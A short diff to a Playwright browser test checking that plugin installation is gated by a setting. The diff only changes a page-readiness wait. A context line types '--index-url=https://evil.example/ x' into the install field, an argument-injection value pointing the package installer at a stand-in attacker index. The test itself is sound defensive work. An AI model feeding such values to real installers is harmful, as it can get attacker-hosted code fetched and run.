@@ -44,7 +44,7 @@ def test_plugins_are_installed_here_only_where_the_setting_allows_it(browser: Lo
         expect(page.locator("#install")).to_have_count(0)
         server.client.patch("/api/v1/settings", json={"plugin_install": True}).raise_for_status()
         page.reload()
-        page.wait_for_function("document.documentElement.dataset.ready === 'yes'")
+        expect(page.locator("html[data-ready=yes]")).to_be_attached()
         page.get_by_label("Install a plugin").fill("--index-url=https://evil.example/ x")
         page.get_by_role("button", name="Install", exact=True).click()
         expect(page.locator("#said .notice")).to_be_visible()
